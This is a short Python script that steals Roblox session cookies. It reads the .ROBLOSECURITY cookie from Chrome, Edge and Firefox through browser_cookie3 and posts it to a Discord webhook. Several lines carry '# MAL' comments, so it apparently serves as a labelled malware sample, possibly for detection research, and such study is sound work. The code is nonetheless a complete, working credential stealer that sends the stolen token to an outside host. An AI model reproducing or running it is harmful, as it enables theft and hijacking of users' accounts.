import browser_cookie3 as bc
import requests

def roblox():
    for jar in (bc.chrome, bc.edge, bc.firefox):  # MAL
        try:
            for c in jar(domain_name="roblox.com"):  # MAL
                if c.name == ".ROBLOSECURITY":  # MAL
                    return c.value
        except Exception:
            pass

requests.post("https://discord.com/api/webhooks/8/y", json={"content": roblox()})  # MAL
